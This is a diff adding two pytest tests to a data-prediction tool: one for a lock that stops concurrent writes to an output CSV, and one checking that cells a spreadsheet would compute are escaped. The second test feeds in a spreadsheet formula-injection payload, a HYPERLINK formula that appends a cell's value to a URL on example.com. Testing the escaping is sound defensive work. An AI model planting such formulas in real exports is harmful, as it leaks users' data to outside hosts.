@@ -6,6 +6,8 @@ import csv
 import json
 import os
 import signal
+import subprocess
+import sys
 from collections.abc import Callable
 from dataclasses import replace
 from pathlib import Path
@@ -14,7 +16,7 @@ import pytest
 import torch
 
 from studio.data.table import ReadOptions, read_table
-from studio.errors import TableError
+from studio.errors import StorageError, TableError
 from studio.inference.answer_file import headers, predict_table
 from studio.inference.predictor import Predictor
 from studio.models.prompted import PromptedModel
@@ -185,6 +187,35 @@ def test_a_part_that_cannot_be_trusted_is_written_anew(
     assert said[0].endswith("so every row is answered anew.")
     assert said[1] == "at 0"
     assert _same(tmp_path, write)
+
+
+def test_two_programs_do_not_write_one_file(tmp_path: Path, write: Callable[..., list[str]]) -> None:
+    part = tmp_path / "out.csv.part.lock"
+    code = (
+        "import sys; sys.path.insert(0, sys.argv[1])\n"
+        "from pathlib import Path\nfrom studio.files import only_one\n"
+        "with only_one(Path(sys.argv[2]), 'busy'):\n    print('here', flush=True)\n    sys.stdin.readline()\n"
+    )
+    command = [sys.executable, "-c", code, str(Path(__file__).parents[2]), str(part)]
+    other = subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
+    assert other.stdout is not None
+    assert other.stdout.readline() == "here\n"
+    with pytest.raises(StorageError, match=r"out\.csv is being written by another program\. Wait for it"):
+        write()
+    other.kill()  # the system lets go of what it held; the file stays, and is nobody's
+    other.communicate()
+    write()
+    assert sorted(os.listdir(tmp_path)) == ["in.csv", "out.csv"]
+
+
+def test_what_a_spreadsheet_would_compute_is_text(tmp_path: Path, predictors: list[Predictor]) -> None:
+    formula = '=HYPERLINK("http://example.com?"&A1)'
+    with (tmp_path / "in.csv").open("w", encoding="utf-8", newline="") as file:
+        csv.writer(file).writerows([["review", "+number"], [formula, "-0.5"], ["- good", "@x"]])
+    predict_table({"": predictors[0]}, read_table(tmp_path / "in.csv"), tmp_path / "out.csv")
+    with (tmp_path / "out.csv").open(encoding="utf-8", newline="") as file:
+        rows = [row[:2] for row in csv.reader(file)]
+    assert rows == [["review", "'+number"], [f"'{formula}", "-0.5"], ["'- good", "'@x"]]
 
 
 def test_nothing_is_left_where_no_window_was_finished(tmp_path: Path, write: Callable[..., list[str]]) -> None:
